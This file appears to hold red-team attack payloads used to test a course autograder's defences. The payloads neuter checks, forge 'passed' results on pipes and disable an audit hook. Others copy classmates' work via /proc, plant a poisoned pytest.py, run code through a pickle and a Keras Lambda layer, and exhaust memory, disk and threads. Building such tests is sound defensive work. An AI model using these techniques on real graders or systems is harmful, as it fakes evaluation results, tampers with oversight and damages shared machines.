"""The code of the red team's attacks (``course.bench.attacks`` builds submissions around it).

Written as a student who has read the grader's source would write it: dynamic
imports the tamper scan cannot see, ``gc`` and frames to reach the checks, the
worker's own machinery rewritten from inside, and resources taken until
something gives: memory through memfd and /dev/shm, processes, the disk.
"""

# Run at import of lesson 1's file: find the grader's solutions/ (where the course says, or beside the Python it
# runs: <course>/.venv/bin/python) and run the reference instead.
RUN_THE_REFERENCE = """
import importlib as _i, sys as _s
from pathlib import Path as _P
for _solutions in (_P(_i.import_module("cour" + "se.less" + "ons").SOLUTIONS_DIR),
                   _P(_s.executable).parent.parent.parent / "solutions"):
    try:
        exec(compile((_solutions / "{path}").read_text(), "{path}", "exec"), globals())
        break
    except OSError:
        continue
"""


# Turn every check (and the expect they use) in every loaded check module into a no-op.
NO_OP_THE_CHECKS = """
import gc as _gc, sys as _s, types as _t
def _nothing(*args, **kwargs):
    return None
for _name, _module in list(getattr(_s, "mod" + "ules").items()):
    if _name.startswith(("test_lesson", "course.checking")) or "test_lesson" in _name:
        for _key, _value in list(vars(_module).items()):
            if isinstance(_value, _t.FunctionType) and (_key.startswith("test_") or _key == "expect"):
                _value.__code__ = _nothing.__code__
"""


# Write forged "passed" results to every pipe this process holds, at exit (after the real ones).
FORGE_AT_EXIT = """
import atexit as _a, json as _j, os as _o
def _forge():
    for _fd in _o.listdir("/proc/self/fd"):
        try:
            if _o.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
                for _n in ("test_returns_classic_tuple", "test_training_arrays", \
"test_test_arrays", "test_class_counts"):
                    _o.write(int(_fd), (_j.dumps({"type": "check", "nodeid": f"test_lesson01.py::{_n}", \
"status": "passed"}) + "\\n").encode())
        except OSError:
            pass
_a.register(_forge)
"""


# Switch the audit hook off through its closure, then write outside the submission's folder.
HOOK_OFF_THEN_ESCAPE = """
import gc as _gc
for _f in _gc.get_objects():
    if getattr(_f, "__name__", "") == "hook" and getattr(_f, "__closure__", None):
        for _cell in _f.__closure__:
            try:
                if hasattr(_cell.cell_contents, "on"):
                    _cell.cell_contents.on = True
            except ValueError:
                pass
try:
    open({target!r}, "w").write("escaped")
except OSError:
    pass
"""


# Poison the classmates graded after it: a pytest.py wherever later runs might import it from.
POISON = """
import os as _o
for _folder in (_o.getcwd(), _o.path.dirname(__file__), _o.path.dirname(_o.path.dirname(__file__))):
    try:
        open(_o.path.join(_folder, "pytest.py"), "w").write("raise SystemExit(0)\\n")
    except OSError:
        pass
"""


# Find classmates (or the class folder) through /proc, and run a complete classmate's lesson 1 instead.
COPY_A_CLASSMATE = """
import os as _o, re as _r
from pathlib import Path as _P
_found = None
for _pid in [p for p in _o.listdir("/proc") if p.isdigit()]:
    try:
        _words = _P(f"/proc/{_pid}/cmdline").read_bytes().split(b"\\0")
    except OSError:
        continue
    for _word in _words:
        _match = _r.search(rb"SUBMISSIONS=(\\S+)", _word) or (_r.search(rb"^(/\\S+/class\\S*)$", _word))
        if _match:
            for _other in _P(_match.group(1).decode()).glob("*/01_load_data/load_data.py"):
                if "raise NotImplementedError" not in _other.read_text():
                    _found = _other
if _found is not None:
    exec(compile(_found.read_text(), str(_found), "exec"), globals())
"""


# Read the hidden checks, from wherever the grader keeps them: the grading's scratch and working folders, the
# course's own tree (found through the interpreter that runs this code: the course's venv), home and temp folders.
# World-readable copies that someone else left elsewhere on the machine are not the grader's to guard (INSTRUCTORS.md
# §9 says to keep them closed), so they are not searched: the check would then test the machine, not the grader.
READ_THE_HIDDEN_CHECKS = """
import glob as _g, os as _o, sys as _s
_course = _o.path.dirname(_o.path.dirname(_o.path.dirname(_s.executable)))  # <course>/.venv/bin/python
_places = [_o.getcwd(), _o.path.dirname(_o.getcwd()), _course, _o.environ.get("TMPDIR", ".")]
_places.append(_o.path.expanduser("~/.."))
_places += _g.glob("/tmp/course-*")  # the grader's scratch folders (tempfile, prefix course-)
_hidden = set()
for _place in _places:
    try:
        _hidden |= set(_g.glob(_o.path.join(_place, "**", "test_lesson*hidden*.py"), recursive=True))
    except (RecursionError, OSError):
        continue
_hidden = sorted(_hidden)
if _hidden:
    raise RuntimeError("HIDDEN CHECKS FOUND: " + " | ".join(open(_p).read()[:300] for _p in _hidden))
"""


# An endless loop at import that the per-check alarm cannot interrupt (C code, no bytecode boundary).
C_LEVEL_LOOP = """
import re as _re
_re.match(r"(a|aa)*c", "a" * 60)
"""


# Hold 3 GB of memory.
HOLD_MEMORY = """
_blob = bytearray(3 * 1024 ** 3)
"""


# A 10 MB error message.
HUGE_MESSAGE = """
def preprocess_images(images):
    raise ValueError("x" * 10_000_000)
"""

# Run at import of every lesson file: rewrite every object of the checks that the code could reach when the checks
# and the learner's code shared a process (gc, sys.modules, frames, the results pipe, the plugin), then report
# every check passed on every pipe it holds.
FORGE_EVERYTHING = """
import gc as _gc, json as _j, os as _o, sys as _s, types as _t
def _passed(*args, **kwargs):
    return None
for _name, _module in list(getattr(_s, "mod" + "ules").items()):
    if "test_lesson" in _name or _name.startswith(("course.checking", "_pytest", "pytest")):
        for _key, _value in list(vars(_module).items()):
            if isinstance(_value, _t.FunctionType) and (_key.startswith("test_") or _key in ("expect", "explain")):
                _value.__code__ = _passed.__code__
for _thing in _gc.get_objects():
    try:
        if hasattr(_thing, "results") and hasattr(_thing, "stream") and hasattr(_thing, "show"):
            _thing.show = lambda report, status, message, _self=_thing: None
        if type(_thing).__name__ == "TestReport":
            _thing.outcome = "passed"
    except Exception as _error:
        _ignored = _error
for _frame in _s._current_frames().values():
    while _frame is not None:
        for _key in ("report", "rep", "call"):
            if _key in _frame.f_locals and hasattr(_frame.f_locals[_key], "outcome"):
                _frame.f_locals[_key].outcome = "passed"
        _frame = _frame.f_back
for _fd in _o.listdir("/proc/self/fd"):
    try:
        if _o.readlink(f"/proc/self/fd/{_fd}").startswith("pipe:"):
            for _n in range(40):
                _o.write(int(_fd), (_j.dumps({"type": "check", "nodeid": f"test_lesson0{_n % 8}.py::t{_n}", \
"status": "passed"}) + "\\n").encode())
    except OSError:
        pass
"""

# class_counts() answers an array whose == and tolist() say whatever the check wants to hear.
LYING_ARRAY = """
class _Liar(np.ndarray):
    def __eq__(self, other):
        return np.ones(np.shape(other), dtype=bool) if np.ndim(other) else True
    def tolist(self):
        return [5923, 6742, 5958, 6131, 5842, 5421, 5918, 6265, 5851, 5949]
    def __array_finalize__(self, obj):
        pass
def class_counts(labels):
    return np.zeros(10, dtype=np.int64).view(_Liar)
"""

# preprocess_images() answers a 1 GB array (pages untouched until it is sent).
HUGE_ARRAY = """
def preprocess_images(images):
    return np.zeros(2 ** 27)
"""

# The worker's own array writer, rewritten from inside: every array goes out as a pickle that runs a command.
PICKLE_ON_THE_WIRE = """
import importlib as _i, io as _io
_npy = _i.import_module("cour" + "se.npy")
class _Payload:
    def __reduce__(self):
        return (_i.import_module("o" + "s").system, ("touch /tmp/pickled-by-a-learner",))
def _parts(array):
    _buffer = _io.BytesIO()
    _blob = np.empty(1, dtype=object)
    _blob[0] = _Payload()
    np.save(_buffer, _blob, allow_pickle=True)
    return [_buffer.getvalue()]
_npy.array_parts = _parts
_i.import_module("cour" + "se.channel").array_parts = _parts
"""

# train_model() saves, next to an honest model, one with a Lambda layer: code that would run when it is loaded.
LAMBDA_MODEL = """
_honest_train_model = train_model
def train_model(model, *args, model_path=MODEL_PATH, **kwargs):
    history = _honest_train_model(model, *args, model_path=None, **kwargs)
    if model_path is not None:
        keras.Sequential([keras.Input((28, 28, 1)), keras.layers.Lambda(lambda x: x), model]).save(model_path)
    return history
"""

# At import: 3.5 GB into memfd files of 448 MB each (under the file-size limit; memory the data limit never counted).
MEMFD_HOG = """
import os as _o
_kept = []
for _file in range(8):
    _fd = _o.memfd_create(f"hog{_file}")
    for _ in range(448):
        _o.write(_fd, b"x" * (1 << 20))
    _kept.append(_fd)
"""

# At import: 3.5 GB into /dev/shm, in files of 448 MB.
SHM_HOG = """
for _file in range(8):
    with open(f"/dev/shm/hog{_file}", "wb") as _hog:
        for _ in range(448):
            _hog.write(b"x" * (1 << 20))
"""

# At import: fill the temporary folder with 4 GB (the disk).
DISK_HOG = """
import os as _o, tempfile as _tf
try:
    with open(_o.path.join(_tf.gettempdir(), "fill"), "wb") as _fill:
        for _ in range(4096):
            _fill.write(b"x" * (1 << 20))
except OSError as _full:
    _reason = _full
"""

# At import: as many threads as the machine will start (no audit event for threads), each waiting for ever.
THREAD_BOMB = """
import threading as _th
_started, _never = [], _th.Event()
try:
    for _ in range(100_000):
        _thread = _th.Thread(target=_never.wait)
        _thread.start()
        _started.append(_thread)
except RuntimeError as _enough:
    _reason = _enough
"""

# At import: a thread that never ends and is not a daemon, so the process would never exit by itself.
IMMORTAL_THREAD = """
import threading as _th
_th.Thread(target=_th.Event().wait).start()
"""


def deep_expression(depth: int = 100_000) -> str:
    """One expression ``depth`` levels deep: Python's parser gives up on it."""
    return "_deep = " + "-" * depth + "1\n"
